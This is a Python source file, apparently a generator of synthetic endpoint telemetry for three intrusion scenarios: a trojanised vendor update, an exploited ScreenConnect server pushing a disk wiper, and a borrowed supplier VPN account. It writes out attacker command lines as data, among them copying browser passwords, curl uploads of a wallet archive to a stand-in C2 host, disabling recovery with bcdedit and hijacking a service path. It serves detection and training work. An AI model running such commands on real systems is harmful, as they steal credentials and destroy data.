"""Intruders who came through somebody else: suppliers, service firms, borrowed accounts."""
from . import estate
from .steps import (beacon, blind, encrypt, h, inhibit, lsass, m, psexec, rdp, run_key, s, send, stage, stop, task,
                    wmi, winrm)


@estate("supplier-update", "An update of the maker itself brings the back door to many; one desk is worked by hand")
def supplier(e):
    desks = e.people(28)
    dc, fs, app = e.servers("dc", "file", "app")
    e.admin()
    path = "C:\\Program Files\\Telefon Desk\\TelefonDesk.exe"
    have = desks[3:24:2]
    first = hand = have[0]
    for d in have:
        d.software.append(("telefon", "telefon_desk", "18.12.407"))
        for n in range(1, 8): e.run(d, e.at(n, "08:30") + m(e.rng.randint(0, 50)), path, f'"{path}" --tray',
                                    content="tdesk 405")
    t = e.at(e.workday(8), "07:15")
    for i, d in enumerate(have):
        k = t + m(9 * i)
        u = e.run(d, k, "C:\\Program Files\\Telefon Desk\\Update.exe",
                  '"Update.exe" --update https://dl.telefon.example/407',
                  e.base(d, path, user=d.user, path=path))
        e.net(d, k + s(2), u, "192.0.2.210", 443, "dl.telefon.example")
        f = e.file(d, k + s(20), "FileCreated", "C:\\Program Files\\Telefon Desk\\ffmpeg.dll", u,
                   content="ffmpeg 407 evil")
        p = e.run(d, k + s(31), path, f'"{path}" --tray', u, content="tdesk 407")
        ld = e.load(d, k + s(32), f["FolderPath"], p, content="ffmpeg 407 evil")
        if d is not first: continue
        n = e.net(d, k + m(70), p, "203.0.113.151", 443, "msedge-cdn.example.net")
        e.entry(d, k + s(31), ["T1195.002"], "supply-chain", [u, f, p, ld, n])
        e.cause(d, "T1195.002", "none-effective", "unknown", "signed by the maker, from the maker's own address; "
                "every control of the desk was on", rows=[u, f, ld])
        hp = p
        beacon(e, d, k + h(3), p, "203.0.113.151", "msedge-cdn.example.net", 5, 80000)
    k = e.at(15, "03:40")
    sh = e.run(hand, k, "cmd.exe", "cmd.exe /c whoami /groups & quser", hp)
    e.unknowns.append("whether the other desks with the update were looked at: none shows it")
    c = e.run(hand, k + m(3), "powershell.exe", "powershell -nop -c Copy-Item 'Login Data' C:\\Users\\Public\\l.db", sh)
    f = e.file(hand, k + m(3) + s(2), "FileCreated", "C:\\Users\\Public\\l.db", c, size=51000)
    e.harm(hand, k + m(3), "T1555.003", "credentials-stolen", "passwords kept in the browser", [c, f])
    e.cause(hand, "T1555.003", "scid-22", "would-have-limited", "the browser may keep passwords", rows=[c, f])
    task(e, hand, k + m(9), sh, "TelefonHealth", path)
    stage(e, hand, k + m(20), sh, "C:\\Users\\Public\\w.cab",
          f"makecab.exe C:\\Users\\{hand.user}\\wallet C:\\Users\\Public\\w.cab")
    send(e, hand, k + m(24), hp, "curl.exe -F f=@C:\\Users\\Public\\w.cab https://msedge-cdn.example.net/a",
         "203.0.113.151",
         "msedge-cdn.example.net", "T1041")
    e.decoy(app, "CVE-2023-28252", "open, not used")
    e.decoy(desks[1], "scid-22", "off, did not have the program")


@estate("service-firm-wiper", "A service firm's remote tool without its fix; 96 desks; disks overwritten at dawn")
def wiper(e):
    desks = e.people(60) + e.people(36, first=301, net="24")
    dc, fs, bk = e.servers("dc", "file", "backup")
    e.admin()
    e.looseness = 0.1
    sc = e.device("SUPPORT01", "s22", "1.50", "app", facing=True)
    sc.software.append(("connectwise", "screenconnect", "23.9.7"))
    cl = "C:\\Program Files (x86)\\ScreenConnect Client (9c1)\\ScreenConnect.ClientService.exe"
    t, ip = e.at(17, "19:50"), "203.0.113.12"
    sv = e.base(sc, "ScreenConnect.Service.exe", user="system",
                path="C:\\Program Files (x86)\\ScreenConnect\\Bin\\ScreenConnect.Service.exe")
    n = e.net(sc, t, sv, ip, 8040, action="InboundConnectionAccepted")
    f = e.file(sc, t + m(1), "FileModified", "C:\\Program Files (x86)\\ScreenConnect\\App_Data\\User.xml", sv,
               size=1500)
    g = e.file(sc, t + m(3), "FileCreated", "C:\\Program Files (x86)\\ScreenConnect\\App_Extensions\\a9\\Shell.ashx",
               sv, size=3900)
    c = e.run(sc, t + m(4), "cmd.exe", "cmd.exe /c whoami", sv)
    e.entry(sc, t, ["T1190"], "exploit-public-app", [n, f, g, c])
    e.cause(sc, "T1190", "CVE-2024-1709", "would-have-blocked", "open; the set-up page made a new administrator",
            same=("net.exposed", "scid-114"), rows=[n, f, c])
    e.harm(sc, t + m(3), "T1505.003", "persistence-added", "an extension that runs commands", [g])
    e.harm(sc, t + m(1), "T1136", "account-created", "a new administrator of the tool", [f], optional=True)
    k = e.at(18, "04:12")
    hit = desks[10:16] + [fs]
    for i, d in enumerate(hit):
        x = k + s(70 * i)
        agent = e.base(d, "ScreenConnect.ClientService.exe", user="system", path=cl)
        e.net(d, x, agent, sc, 8041)
        q = e.run(d, x + s(2), "cmd.exe",
                  f'cmd.exe /c "C:\\Windows\\TEMP\\ScreenConnect\\23.9.7\\{e.rng.getrandbits(32):08x}run.cmd"', agent)
        e.move(sc, d, x, "T1072", "a command of the remote tool", [q])
        inhibit(e, d, x + s(9), q, "bcdedit.exe /set {default} recoveryenabled no")
        w = e.run(d, x + s(20), "C:\\Windows\\Temp\\cl64.exe", "C:\\Windows\\Temp\\cl64.exe", q, content="wiper cl64")
        dr = e.file(d, x + s(22), "FileCreated", "C:\\Windows\\System32\\drivers\\epmntdrv.sys", w, content="epmntdrv")
        lo = e.event(d, x + s(24), "DriverLoad", e.base(d, "services.exe"), FileName="epmntdrv.sys",
                     FolderPath="C:\\Windows\\System32\\drivers\\epmntdrv.sys")
        dl = [e.file(d, x + s(30 + j / 4), "FileDeleted", f"C:\\Users\\Public\\Documents\\{j:04}.docx",
                     w) for j in range(22)]
        e.harm(d, x + s(20), "T1561.002", "data-destroyed", "disk overwritten through a borrowed driver", [w, dr, lo,
            dl[:2]])
        e.cause(d, "T1068 T1561.002 T1543.003", "scid-2515", "would-have-blocked",
                "the rule against borrowed drivers was off", same=("scid-115",), rows=[dr, lo])
        r = e.run(d, x + m(4), "shutdown.exe", "shutdown.exe /r /f /t 0", w)
        e.harm(d, x + m(4), "T1529", "device-restarted", "restart after the overwriting", [r])
    ok = desks[30]
    agent = e.base(ok, "ScreenConnect.ClientService.exe", user="system", path=cl)
    q = e.run(ok, k + m(9), "cmd.exe", 'cmd.exe /c "C:\\Windows\\TEMP\\ScreenConnect\\23.9.7\\77run.cmd"', agent)
    e.move(sc, ok, k + m(9), "T1072", "a command of the remote tool", [q])
    w = e.run(ok, k + m(9) + s(9), "C:\\Windows\\Temp\\cl64.exe", "C:\\Windows\\Temp\\cl64.exe", q,
              content="wiper cl64")
    e.held(ok, "T1068", "scid-2515", k + m(9) + s(11), "the driver was not written",
           [e.rule(ok, k + m(9) + s(11), "scid-2515", w, True)])
    e.unknowns.append("desks that were switched off at dawn")
    for d in desks[50:53]: e.decoy(d, "scid-2515", "off; the desk was switched off")
    return ("system",) if e.style == "b" else ()


@estate("vpn-borrowed", "A true account over the VPN from a supplier's notebook; nothing was exploited")
def vpn(e):
    e.people(15)
    dc, fs, app, db = e.servers("dc", "file", "app", "db")
    e.admin()
    vp = e.device("NB-EXT-44", "w10", "250.44", "vpn", agent=False, listed=False, group="VPN")
    for n in range(1, 18):  # the supplier's ordinary visits, in the day and to one server
        if (e.start + m(1440 * n)).weekday() in (1, 3): e.logon(app, e.at(n, "10:15"), "ext.novak", "RemoteInteractive",
                                                                 ("nb-ext-12", f"{e.net_it}.250.12"))
    t = e.at(18, "20:31")
    a = e.logon(app, t, "ext.novak", "RemoteInteractive", ("nb-ext-44", vp.ip), admin=True)
    sh = e.run(app, t + s(9), "explorer.exe", "C:\\Windows\\Explorer.EXE", e.base(app, "winlogon.exe"),
               user="ext.novak",
               level="Medium", remote=vp.ip)
    e.entry(vp, t, ["T1133", "T1078", "T1078.002"], "valid-account", [a])
    e.cause(vp, "T1133 T1078.002 T1078", "id.mfa", "would-have-blocked",
            "an account of a supplier from a notebook never seen, "
            "at night; nothing asked for a second proof", same=("none-effective", "net.segment"), rows=[a])
    e.move(vp, app, t, "T1021.001", "remote desktop", [a, sh])
    sc = e.run(app, t + m(8), "C:\\Users\\ext.novak\\Downloads\\netscan.exe",
               "netscan.exe /hide /auto:r.xml /range:all", sh,
               content="netscan")
    for i in range(40): e.net(app, t + m(8) + s(i), sc, f"{e.net_it}.1.{i + 5}", 445,
                              action="ConnectionFailed" if i % 3 else "ConnectionSuccess")
    e.note(app, "T1046")
    sv = e.run(app, t + m(30), "powershell.exe", "powershell gwmi win32_service | select name,pathname", sh)
    r = e.registry(app, t + m(33), "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PrintAgent", "ImagePath",
                   "C:\\ProgramData\\a.exe", e.run(app, t + m(33) - s(1), "sc.exe",
                   "sc config PrintAgent binPath= C:\\ProgramData\\a.exe", sh))
    x = e.run(app, t + m(34), "C:\\ProgramData\\a.exe", "C:\\ProgramData\\a.exe", e.base(app, "services.exe"),
              content="implant a")
    e.harm(app, t + m(33), "T1543.003", "persistence-added", "service PrintAgent", [r, x])
    beacon(e, app, t + m(35), x, "203.0.113.61", "api.status-page.example.net", 8, 4100)
    k = t + h(24)
    ad = e.logon(app, t + h(14), e.admin_user, "RemoteInteractive", e.admin_desk, admin=True)
    lp = e.event(dc, k, "LdapSearch", None, {"SearchFilter": "(ms-Mcs-AdmPwd=*)"}, RemoteIP=app.ip)
    p, rows = lsass(e, app, k + m(2), x, "read")
    e.cause(app, "T1003.001", "scid-2509", "would-have-blocked", "the rule was off, the authority unprotected",
            same=("scid-25", "scid-2080"), rows=rows)
    e.cause(app, "T1003.001 T1078.002", "id.tiering", "would-have-limited",
            "the administrator of the databases had logged on to a server that suppliers use", rows=[ad, *rows])
    q = rdp(e, app, db, k + m(40), e.admin_user, x)
    stage(e, db, k + m(55), q, "E:\\tmp\\crm.bak", 'sqlcmd.exe -Q "BACKUP DATABASE crm TO DISK=\'E:\\tmp\\crm.bak\'"',
          "T1005")
    send(e, db, k + m(80), q, "C:\\ProgramData\\restic.exe -r rest:https://203.0.113.62/ backup E:\\tmp",
         "203.0.113.62", None,
         "T1048")
    e.decoy(fs, "CVE-2020-1472", "open, not used")
    e.decoy(dc, "scid-2509", "off, never reached")
    e.unknowns.append("the notebook itself: it has no agent")
